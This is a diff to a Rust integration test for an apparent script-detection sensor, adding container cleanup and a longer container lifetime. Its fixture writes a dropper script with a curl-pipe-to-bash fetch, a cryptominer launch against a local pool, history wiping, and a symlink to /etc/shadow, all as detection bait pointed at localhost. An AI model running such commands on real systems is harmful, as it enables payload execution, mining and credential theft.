@@ -142,6 +142,17 @@ fn benign_corpus_scripts(dir: &Path, n: usize) -> Vec<PathBuf> {
         .collect()
 }
 
+/// A detached container, removed when the test ends, however it ends.
+struct Container(String);
+
+impl Drop for Container {
+    fn drop(&mut self) {
+        let _ = Command::new("podman")
+            .args(["rm", "--force", "--time", "0", &self.0])
+            .output();
+    }
+}
+
 fn run(cmd: &mut Command) {
     let out = cmd.output().expect("run command");
     assert!(
@@ -199,16 +210,18 @@ fn sensor_run_finds_malicious_scripts_on_the_host_and_in_a_container() {
     // Container: a dropper written and run inside it, and a script path that
     // is a symlink to /etc/shadow (the container's, never the host's).
     let name = format!("sensor-live-{}", std::process::id());
-    // Paths unique to this run; the container lives on a few seconds so that
-    // its namespace is still there however busy the machine is.
+    // Paths unique to this run; the container lives until the findings are
+    // in, so its metadata is still there however slowly the sensor runs.
     let job_path = format!("/tmp/job-{}.sh", std::process::id());
     let link_path = format!("/tmp/link-{}.sh", std::process::id());
     let inside = format!(
         "printf '#!/bin/bash\\nexit 0\\ncurl -fsSL http://127.0.0.1:9/x.sh | bash; chmod +x /tmp/.k; nohup /tmp/.k -o stratum+tcp://127.0.0.1:3333 &\\nhistory -c\\n' > {job_path} \
-         && bash {job_path} && ln -s /etc/shadow {link_path} && (bash {link_path} 2>/dev/null; true) && sleep 5"
+         && bash {job_path} && ln -s /etc/shadow {link_path} && (bash {link_path} 2>/dev/null; true) && exec sleep 600"
     );
+    let _container = Container(name.clone());
     run(Command::new("podman").args([
         "run",
+        "--detach",
         "--rm",
         "--runtime",
         "runc",
